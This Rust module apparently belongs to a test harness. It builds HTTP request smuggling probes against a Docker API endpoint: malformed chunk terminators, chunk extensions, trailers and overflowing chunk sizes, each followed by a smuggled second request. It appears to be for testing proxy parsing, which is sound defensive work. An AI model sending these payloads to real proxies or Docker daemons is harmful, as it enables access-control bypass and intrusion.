//! Chunks and trailers that readers take apart differently.

use super::{Attack, whole};

pub(super) fn attacks() -> Vec<Attack> {
    let last = LAST.iter().map(|body| {
        let raw = [HEAD, body, b"{smuggled}"].concat();
        Attack::new(FAMILY, &format!("a last chunk {}", body.escape_ascii()), &raw)
    });
    let within =
        WITHIN.iter().map(|(name, body)| Attack::new(FAMILY, name, &[HEAD, body].concat()));
    last.chain(within).chain(whole(FAMILY, WHOLE)).collect()
}

const FAMILY: &str = "chunks";
const HEAD: &[u8] = b"GET /_ping HTTP/1.1\r\nHost: docker\r\nTransfer-Encoding: chunked\r\n\r\n";

/// What may pass for the end of a body, before what then is the next request.
const LAST: &[&[u8]] = &[
    b"0\r\n\r\n",
    b"0\n\n",
    b"0\r\n\n",
    b"0\n\r\n",
    b"0;a\r\n\r\n",
    b"0;a\n\r\n",
    b"0;a=\"\r\n\"\r\n\r\n",
    b"0 \r\n\r\n",
    b"0\t\r\n\r\n",
    b" 0\r\n\r\n",
    b"\t0\r\n\r\n",
    b"00\r\n\r\n",
    b"0000000000000000\r\n\r\n",
    b"00000000000000000\r\n\r\n",
    b"+0\r\n\r\n",
    b"-0\r\n\r\n",
    b"0x0\r\n\r\n",
    b"0x\r\n\r\n",
    b"0h\r\n\r\n",
    b"0,\r\n\r\n",
    b"0\x00\r\n\r\n",
    b"0\x0b\r\n\r\n",
    b"\r\n\r\n",
    b"\n\n",
    b"\n\r\n",
    b";a=b\r\n\r\n",
    b";\r\n\r\n",
    b" \r\n\r\n",
    b";a=b\n\r\n",
    b"0\r\r\n\r\n",
    b"0\r\n\r\r\n",
    b"0\r\nX: a\r\n\r\n",
    b"0\r\nX: a\n\n",
    b"0\r\nX: a\n\r\n",
    b"0\r\nX: a\r\n\n",
    b"0\r\nX: a\n\nY: b\r\n\r\n",
    b"0\nX: a\r\n\r\n",
    b"0\r\n X: a\r\n\r\n",
    b"0\r\nX: a\r\n b\r\n\r\n",
    b"0\r\nX\r\n\r\n",
    b"0\r\n: a\r\n\r\n",
    b"0\r\nX : a\r\n\r\n",
    b"0\r\nX: \x00\r\n\r\n",
    b"0\r\nContent-Length: 5\r\n\r\n",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"0\r\nHost: other\r\n\r\n",
    b"3\r\nabc\r\n0\r\n\r\n",
    b"3\r\nabc0\r\n\r\n",
    b"3\r\nabc\n0\r\n\r\n",
    b"3\nabc\n0\n\n",
    b"3\r\nabcd\r\n0\r\n\r\n",
    b"3\r\nabcd0\r\n\r\n",
    b"2\r\nabc\r\n0\r\n\r\n",
    b"3;a=b;c=\"d\"\r\nabc\r\n0\r\n\r\n",
    b"3\r\nabc\r\n;\r\n\r\n",
    b"3\r\nabc\r\n\r\n\r\n",
    b"g\r\nabc\r\n0\r\n\r\n",
    b"zz\r\n\r\n",
    b"100000000\r\n\r\n",
    b"ffffffffffffffff\r\n\r\n",
    b"10000000000000000\r\n\r\n",
    b"10000000000000003\r\nabc\r\n0\r\n\r\n",
    b"fffffffffffffffe\r\nabc\r\n0\r\n\r\n",
    b"7fffffffffffffff\r\nabc\r\n0\r\n\r\n",
    b"\xef\xbc\x90\r\n\r\n",
    b"\xd9\xa0\r\n\r\n",
];

/// Bodies in which a request stands where some see data, and others the next request.
const WITHIN: &[(&str, &[u8])] = &[
    ("a request as a chunk", b"{smuggled-hex}\r\n{smuggled}\r\n0\r\n\r\n"),
    (
        "a request as a chunk behind an empty size",
        b"\r\n\r\n{smuggled-hex}\r\n{smuggled}\r\n0\r\n\r\n",
    ),
    ("a request in an extension", b"0;{smuggled}\r\n\r\n"),
    ("a request in a quoted extension", b"3;a=\"\r\n{smuggled}\"\r\nabc\r\n0\r\n\r\n"),
    ("an extension by a bare line feed", b"3;\n{smuggled}\r\nabc\r\n0\r\n\r\n"),
    ("an extension by a bare line feed hides an end", b"5;\nhello\r\n0\r\n\r\n{smuggled}"),
    ("an extension by a bare carriage return", b"5;\rhello\r\n0\r\n\r\n{smuggled}"),
    ("a request as a trailer", b"0\r\n{smuggled}"),
    ("a request behind a bare line feed in trailers", b"0\r\nX: y\n\n{smuggled}\r\n\r\n"),
    ("a request behind line feeds and carriage returns", b"0\r\nX: y\r\n\n{smuggled}\r\n\r\n"),
    ("a size that wraps at 32 bits", b"100000005\r\nhello\r\n0\r\n\r\n{smuggled}"),
    ("a size of seventeen digits", b"00000000000000005\r\nhello\r\n0\r\n\r\n{smuggled}"),
    ("a size in decimal", b"10\r\n0123456789\r\n0\r\n\r\n{smuggled}"),
];

const WHOLE: &[(&str, &[u8])] = &[
    (
        "chunks of a request that is refused",
        b"POST /build HTTP/1.1\r\nHost: docker\r\nTransfer-Encoding: chunked\r\n\r\n\
          0\r\nX: y\n\n{smuggled}\r\n\r\n",
    ),
    (
        "an empty size in a request that is refused",
        b"POST /build HTTP/1.1\r\nHost: docker\r\nTransfer-Encoding: chunked\r\n\r\n\r\n\r\n{smuggled}",
    ),
    (
        "chunks that end, and what follows",
        b"POST /build HTTP/1.1\r\nHost: docker\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
    ),
    (
        "chunks without a coding",
        b"GET /_ping HTTP/1.1\r\nHost: docker\r\n\r\n0\r\n\r\n{smuggled}",
    ),
];
